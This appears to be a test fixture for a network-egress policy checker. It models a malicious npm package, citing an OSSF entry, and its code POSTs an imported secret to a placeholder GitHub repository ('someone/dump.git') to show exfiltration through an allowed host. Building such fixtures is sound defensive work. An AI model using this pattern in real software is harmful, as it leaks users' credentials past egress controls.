// act: commits what it found to GitHub
// source: ossf MAL-0000-keyv
// rule: outbound_connectivity
// asks: connect github.com:443
// says: github.com
// proof: arrived
// to: github.com
// realistic: the policy allows github.com to the whole process
'use strict';
const { request, SECRET } = require('./incident');

module.exports = () =>
    request('https', { host: 'github.com', path: '/someone/dump.git', method: 'POST' }, SECRET);
